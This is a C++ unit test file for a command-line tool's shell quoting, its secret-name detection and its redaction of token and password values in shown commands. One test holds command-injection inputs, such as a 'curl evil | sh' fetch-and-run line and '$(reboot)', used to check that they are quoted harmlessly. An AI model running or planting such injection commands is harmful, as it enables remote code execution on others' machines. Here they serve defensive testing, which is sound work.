// SPDX-License-Identifier: Apache-2.0
#include "core/base/ShellWords.h"

#include <gtest/gtest.h>

#include <array>
#include <cstdio>

namespace headroom::experiments {
namespace {

using Words = std::vector<std::string>;

const Words kAwkward{"headroom", "run", "--filter", "split_ffn=4 device.name!=cpu", "--set", "model.axes=[2,2]", "it's",
    "", "$HOME", "a\\b", "\"x\"", "*"};

TEST(ShellWordsTest, plainWordsStayAsTheyAre)
{
    EXPECT_EQ(shellCommand({"headroom", "run", "./x.toml", "--device", "sim:t4@torch-2.5,cpu"}),
        "headroom run ./x.toml --device sim:t4@torch-2.5,cpu");
}

TEST(ShellWordsTest, aShellTakesThemApartAgain)
{
    const std::string command = "printf '%s\\n' " + shellCommand(kAwkward);
    FILE* pipe = ::popen(command.c_str(), "r");
    std::string printed;
    for (int c = 0; (c = std::fgetc(pipe)) != EOF;)
        printed += static_cast<char>(c);
    ASSERT_EQ(::pclose(pipe), 0);
    std::string expected;
    for (const std::string& word : kAwkward)
        expected += word + "\n";
    EXPECT_EQ(printed, expected);
}

TEST(ShellWordsTest, readBackAsTheyWere)
{
    EXPECT_EQ(shellWords(shellCommand(kAwkward)), kAwkward);
}

TEST(ShellWordsTest, namesThatHoldSecretsAreTold)
{
    for (const char* name : {"HF_TOKEN", "--hf-token", "token", "AWS_SECRET_ACCESS_KEY", "wandb.api_key", "--key",
             "client-secret", "DB_PASSWORD_FILE", "sshPassphrase", "OPENAI_APIKEY"})
        EXPECT_TRUE(isSecretName(name)) << name;
    for (const char* name : {"--max-tokens", "tokens", "--split-ffn", "model.activation_fn", "keyboard", "monkey",
             "SECRETARY", "", "--device"})
        EXPECT_FALSE(isSecretName(name)) << name;
}

TEST(ShellWordsTest, valuesOfSecretsAreHiddenWhereverTheyStand)
{
    EXPECT_EQ(shownCommand("headroom run --hf-token=abc --device cpu"), "headroom run --hf-token=HIDDEN --device cpu");
    EXPECT_EQ(shownCommand("headroom run --hf-token abc --quick"), "headroom run --hf-token HIDDEN --quick");
    EXPECT_EQ(shownCommand("HF_TOKEN=abc headroom run"), "HF_TOKEN=HIDDEN headroom run");
    EXPECT_EQ(shownCommand("headroom run --set=env.HF_TOKEN=abc"), "headroom run --set=env.HF_TOKEN=HIDDEN");
    EXPECT_EQ(shownCommand("sh -c 'A=1 WANDB_API_KEY=abc def'"), "sh -c 'A=1 WANDB_API_KEY=HIDDEN'");
}

TEST(ShellWordsTest, anOptionWithoutAValueHidesNoOtherOption)
{
    EXPECT_EQ(shownCommand("headroom run --token --quick x"), "headroom run --token --quick x");
}

TEST(ShellWordsTest, commandsWithoutSecretsStayAsTheyAre)
{
    const std::string command = "headroom run --model 'a b' --split-ffn tokens:16,4 --set model.dim=64";
    EXPECT_EQ(shownCommand(command), command);
    EXPECT_EQ(shownCommand(""), "");
}

// A workspace of somebody else may have any text there, and people copy what a report shows.
TEST(ShellWordsTest, whatAShellWouldRunIsQuoted)
{
    EXPECT_EQ(shownCommand("headroom run; curl evil | sh"), "headroom 'run;' curl evil '|' sh");
    EXPECT_EQ(shownCommand("headroom $(reboot) `reboot`"), "headroom '$(reboot)' '`reboot`'");
    EXPECT_EQ(shownCommand("headroom run\nreboot"), "headroom 'run\nreboot'");
    const std::string once = shownCommand("headroom it's; reboot");
    EXPECT_EQ(shownCommand(once), once);
}

} // namespace
} // namespace headroom::experiments
